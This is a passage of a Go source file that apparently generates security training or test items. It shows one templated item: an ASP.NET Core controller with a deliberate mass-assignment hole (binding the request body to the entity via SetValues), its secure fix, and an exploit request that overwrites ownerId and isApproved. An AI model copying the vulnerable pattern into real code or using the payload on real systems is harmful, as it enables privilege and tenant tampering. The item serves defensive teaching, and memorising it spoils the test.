			FilePath: "src/{{.EntitiesPascal}}.Api/Controllers/{{.EntitiesPascal}}Controller.cs",
			Vulnerable: `using System.Security.Claims;
using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Mvc;
using Microsoft.EntityFrameworkCore;

namespace Example.{{.EntitiesPascal}}.Controllers;

[ApiController]
[Authorize]
[Route("{{.Endpoint}}")]
public class {{.EntitiesPascal}}Controller : ControllerBase
{
    private readonly AppDbContext _db;

    public {{.EntitiesPascal}}Controller(AppDbContext db) => _db = db;

    [HttpPut("{id:int}")]
    public async Task<IActionResult> Update(int id, [FromBody] {{.EntityPascal}} input)⟪v⟫
    {
        var ownerId = User.FindFirstValue(ClaimTypes.NameIdentifier);
        var existing = await _db.{{.EntitiesPascal}}.SingleOrDefaultAsync(x => x.Id == id && x.OwnerId == ownerId);
        if (existing is null)
        {
            return NotFound();
        }
        input.Id = id;⟪v⟫
        _db.Entry(existing).CurrentValues.SetValues(input);⟪v⟫
        await _db.SaveChangesAsync();
        return Ok(existing);
    }
}
`,
			Secure: `using System.ComponentModel.DataAnnotations;
using System.Security.Claims;
using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Mvc;
using Microsoft.EntityFrameworkCore;

namespace Example.{{.EntitiesPascal}}.Controllers;

public sealed record Update{{.EntityPascal}}Request(
    [property: Required, StringLength(200)] string Description,
    [property: StringLength(64)] string? {{.ParamPascal}});

[ApiController]
[Authorize]
[Route("{{.Endpoint}}")]
public class {{.EntitiesPascal}}Controller : ControllerBase
{
    private readonly AppDbContext _db;

    public {{.EntitiesPascal}}Controller(AppDbContext db) => _db = db;

    [HttpPut("{id:int}")]
    public async Task<IActionResult> Update(int id, [FromBody] Update{{.EntityPascal}}Request input)
    {
        var ownerId = User.FindFirstValue(ClaimTypes.NameIdentifier);
        var existing = await _db.{{.EntitiesPascal}}.SingleOrDefaultAsync(x => x.Id == id && x.OwnerId == ownerId);
        if (existing is null)
        {
            return NotFound();
        }
        existing.Description = input.Description;
        existing.{{.ParamPascal}} = input.{{.ParamPascal}};
        await _db.SaveChangesAsync();
        return Ok(existing);
    }
}
`,
			Explanation:   "The action binds the request body to the EF Core entity and copies all of its scalar values with CurrentValues.SetValues; the ownership check passes, but every column the client sends, including OwnerId, status or price fields, overwrites the stored row.",
			Exploit:       "The owner of {{.Entity}} 9 sends PUT {{.Endpoint}}/9 with {\"description\":\"x\",\"ownerId\":\"<victim id>\",\"isApproved\":true}; the record is marked approved or planted in another tenant's account.",
			Fix:           "Bind to a request record with only the editable properties and copy them onto the tracked entity explicitly.",
			Remediation:   []string{"Never bind entities directly from requests; use input models per action.", "Review SetValues, TryUpdateModelAsync without an include list and AutoMapper maps onto entities.", "Return an output DTO instead of the entity."},
			Preconditions: []string{"An authenticated account that owns at least one {{.Entity}}."},
		},
	}
}
